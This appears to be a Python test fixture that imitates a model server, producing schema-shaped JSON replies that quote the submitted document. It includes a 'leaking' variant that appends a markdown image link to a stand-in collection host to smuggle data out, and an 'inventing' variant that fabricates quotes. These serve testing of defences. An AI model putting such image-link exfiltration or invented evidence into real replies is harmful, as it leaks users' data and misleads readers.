"""What the model server says: JSON that fits the schema of the request, from the words of the document in it.

Deterministic: the same request gets the same answer, and another seed may get another one.
"""

import contextlib
import json
import random
import re
from collections import Counter
from hashlib import sha256
from itertools import pairwise
from typing import Any

_FENCE = re.compile(r"[0-9A-Za-z_-]{16,}")
_TAGGED = re.compile(r"<([A-Za-z][\w-]*)[^>]*>\n(.*?)\n</\1>", re.DOTALL)
_TICKED = re.compile(r"```[^\n]*\n(.*?)\n```", re.DOTALL)
_NUMBERED_LINE = re.compile(r"^\s*\d+\s*\|\s?", re.MULTILINE)
_QUOTE_NAMES = ("quote", "exact", "evidence", "excerpt")
_REASON_NAMES = ("rationale", "reason")
_DISSENT = 0.2
"""Share of seeds whose choices differ from what most seeds choose."""


def answer(request: dict[str, Any]) -> str:
    """The content of the reply to a chat request."""
    messages = request.get("messages", [])
    system = "\n".join(m["content"] for m in messages if m["role"] == "system")
    user = "\n".join(m["content"] for m in messages if m["role"] == "user")
    schema = _schema(request, system)
    seed = int(request.get("seed", 0))
    if schema is None:
        return "This is a plain answer."
    return json.dumps(_Writer(schema, document_text(user), user, seed).value(schema, ""), ensure_ascii=False)


def inventing(request: dict[str, Any]) -> str:
    """The same, but every quote is made up."""
    made_up = (
        f"The parties solemnly agree upon clause {random.Random(answer(request)).randrange(100, 999)} of the moon."
    )

    def invented(value: Any) -> Any:
        if isinstance(value, list):
            return [invented(each) for each in value]
        if isinstance(value, dict):
            return {
                key: made_up if key in _QUOTE_NAMES and isinstance(each, str) else invented(each)
                for key, each in value.items()
            }
        return value

    return json.dumps(invented(json.loads(answer(request))), ensure_ascii=False)


def leaking(request: dict[str, Any]) -> str:
    """The same, but a reply in three carries a picture whose address gives something away."""

    def leaked(value: Any) -> Any:
        if isinstance(value, list):
            return [leaked(each) for each in value]
        if isinstance(value, dict):
            return {
                key: f"{each} ![x](https://collect.example/?d=fees)" if key in _REASON_NAMES else leaked(each)
                for key, each in value.items()
            }
        return value

    said = answer(request)
    if sha256(f"{request.get('seed', 0)}".encode()).digest()[0] % 3:
        return said
    return json.dumps(leaked(json.loads(said)), ensure_ascii=False)


def document_text(user: str) -> str:
    """The document in a user message: between fences, tags or backticks; the whole message where there are none."""
    body = _fenced(user)
    if body is None:
        match = _TAGGED.search(user)
        body = match[2] if match else None
    if body is None:
        match = _TICKED.search(user)
        body = match[1] if match else user
    body = body.strip()
    if body.startswith('"') and body.endswith('"'):
        with contextlib.suppress(ValueError):
            body = json.loads(body)
    return _NUMBERED_LINE.sub("", body)


def _fenced(user: str) -> str | None:
    """The longest stretch between two lines that hold the same long token (a fence nobody could guess)."""
    counts = Counter(_FENCE.findall(user))
    found: list[str] = []
    for token, count in counts.items():
        if count < 2 or not any(c.isdigit() for c in token):
            continue
        places = [match.start() for match in re.finditer(re.escape(token), user)]
        for begin, end in pairwise(places):
            inner = user[begin:end].partition("\n")[2].rpartition("\n")[0]
            found.append(inner)
    best = max(found, key=len, default="")
    return best if best.strip() else None


def _schema(request: dict[str, Any], system: str) -> dict[str, Any] | None:
    wanted = request.get("response_format") or {}
    if wanted.get("type") == "json_schema":
        return dict(wanted["json_schema"]["schema"])
    decoder = json.JSONDecoder()
    for match in re.finditer(r"\{", system):  # without structured replies, the prompt holds the schema
        try:
            value, _ = decoder.raw_decode(system, match.start())
        except ValueError:
            continue
        if isinstance(value, dict) and "properties" in value:
            return value
    return None


class _Writer:
    """Writes a value for a schema."""

    def __init__(self, root: dict[str, Any], document: str, user: str, seed: int) -> None:
        self._root = root
        self._document = document
        self._usual = random.Random(sha256(user.encode("utf-8", "replace")).digest())
        self._own = random.Random(seed)

    def value(self, schema: dict[str, Any], name: str) -> Any:
        schema = self._resolved(schema)
        if "const" in schema:
            return schema["const"]
        if "enum" in schema:
            return self._choice([item for item in schema["enum"] if item is not None] or [None])
        return getattr(self, f"_{self._type(schema)}")(schema, name)

    def _resolved(self, schema: dict[str, Any]) -> dict[str, Any]:
        while True:
            if "$ref" in schema:
                found: Any = self._root
                for step in schema["$ref"].removeprefix("#/").split("/"):
                    found = found[step]
                schema = found
                continue
            options = schema.get("anyOf") or schema.get("oneOf")
            if not options:
                return schema
            schema = next((o for o in options if o.get("type") != "null"), options[0])

    @staticmethod
    def _type(schema: dict[str, Any]) -> str:
        kind = schema.get("type", "object" if "properties" in schema else "string")
        return next((k for k in kind if k != "null"), "null") if isinstance(kind, list) else str(kind)

    def _choice(self, values: list[Any]) -> Any:
        usual = self._usual.choice(values)
        return self._own.choice(values) if self._own.random() < _DISSENT else usual

    def _object(self, schema: dict[str, Any], _: str) -> dict[str, Any]:
        return {key: self.value(item, key) for key, item in schema.get("properties", {}).items()}

    def _array(self, schema: dict[str, Any], name: str) -> list[Any]:
        size = max(schema.get("minItems", 0), min(1, schema.get("maxItems", 1)))
        items = schema.get("items", {"type": "string"})
        return [self.value(items, name) for _ in range(size)]

    def _string(self, schema: dict[str, Any], name: str) -> str:
        words = self._fragment() if any(part in name.lower() for part in _QUOTE_NAMES) else self._prose(name)
        return words[: schema.get("maxLength", len(words))].ljust(schema.get("minLength", 0), ".")

    def _integer(self, schema: dict[str, Any], _: str) -> int:
        low = schema.get("minimum", 1)
        return self._choice(list(range(low, min(schema.get("maximum", low), low + 9) + 1)))

    def _number(self, schema: dict[str, Any], _: str) -> float:
        low, high = schema.get("minimum", 0.0), schema.get("maximum", 1.0)
        return round(low + (high - low) * self._usual.random(), 2)

    def _boolean(self, _schema: dict[str, Any], _: str) -> bool:
        return bool(self._choice([True, False]))

    def _null(self, _schema: dict[str, Any], _: str) -> None:
        return None

    def _prose(self, name: str) -> str:
        return f"The text bears on {name.replace('_', ' ') or 'this'}."

    def _fragment(self) -> str:
        """Up to 12 words of one line of the document, exactly as they stand."""
        lines = [line for line in self._document.splitlines() if len(line.split()) >= 4]
        if not lines:
            return self._document.strip()[:80]
        line = self._usual.choice(lines)
        starts = [match.start() for match in re.finditer(r"\S+", line)]
        first = self._usual.randrange(max(1, len(starts) - 11))
        end = starts[first + 12] if first + 12 < len(starts) else len(line)
        return line[starts[first] : end].strip()
